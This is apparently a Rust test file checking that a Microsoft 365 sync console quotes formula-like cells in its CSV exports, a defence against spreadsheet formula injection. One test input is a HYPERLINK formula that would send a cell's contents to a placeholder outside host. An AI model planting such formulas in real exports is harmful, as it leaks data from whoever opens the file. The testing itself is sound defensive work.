//! Every CSV the console writes is spreadsheet-safe: the errors export (`e`) and the password
//! hand-off (`w`) quote a cell that a spreadsheet would run as a formula (OWASP).
use m365sync::app::effect::ExportFormat;
use m365sync::app::explain::ErrorEntry;
use m365sync::directory::ImportFailure;
use m365sync::sync::apply::IssuedPassword;

fn rows(path: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_path(path)
        .unwrap()
        .records()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn the_errors_export_quotes_formula_cells() {
    let dir = tempfile::tempdir().unwrap();
    let entry = ErrorEntry::from_import(&ImportFailure {
        tenant_user_id: "t1".into(),
        user_principal_name: "=HYPERLINK(\"http://x/?\"&A1)".into(),
        kind: "email-invalid".into(),
        message: "@SUM(1+1)".into(),
        at: "2026-12-03T10:00:00Z".into(),
    });
    let path =
        m365sync::app::runtime::export_errors(dir.path(), ExportFormat::Csv, &[entry]).unwrap();
    let rows = rows(&path);
    assert_eq!(rows.len(), 1);
    assert!(
        rows[0].iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "{:?}",
        rows[0]
    );
    assert!(
        rows[0]
            .iter()
            .any(|c| c == "'=HYPERLINK(\"http://x/?\"&A1)"),
        "{:?}",
        rows[0]
    );
    assert!(rows[0].iter().any(|c| c == "'@SUM(1+1)"), "{:?}", rows[0]);
}

#[test]
fn the_console_hand_off_quotes_formula_addresses() {
    let dir = tempfile::tempdir().unwrap();
    let passwords: Vec<IssuedPassword> = (0..200)
        .map(|i| IssuedPassword {
            email: format!("-u{i}@contoso.com"),
            upn: format!("+u{i}@contoso.onmicrosoft.com"),
            password: format!("Tmp-{i:03}-Kq7#vX2m"),
        })
        .collect();
    let path = m365sync::app::runtime::write_handoff(dir.path(), &passwords).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.starts_with("email,userPrincipalName,temporaryPassword\n"));
    let rows = rows(&path);
    assert_eq!(rows.len(), passwords.len());
    for (row, p) in rows.iter().zip(&passwords) {
        assert_eq!(&row[0], format!("'{}", p.email));
        assert_eq!(&row[1], format!("'{}", p.upn));
        assert_eq!(
            &row[2], p.password,
            "a generated password is written as it is"
        );
    }
}

/// Generated passwords never start with a formula character, so the hand-off never has to
/// change one (sampled: a start with `=`, `+`, `-` or `@` would be quoted).
#[test]
fn a_generated_password_is_never_changed_by_the_hand_off() {
    let dir = tempfile::tempdir().unwrap();
    let passwords: Vec<IssuedPassword> = (0..2000)
        .map(|i| IssuedPassword {
            email: format!("u{i}@contoso.com"),
            upn: format!("u{i}@contoso.com"),
            password: m365sync::sync::password::generate(),
        })
        .collect();
    let path = m365sync::app::runtime::write_handoff(dir.path(), &passwords).unwrap();
    for (row, p) in rows(&path).iter().zip(&passwords) {
        assert_eq!(&row[2], p.password);
    }
}
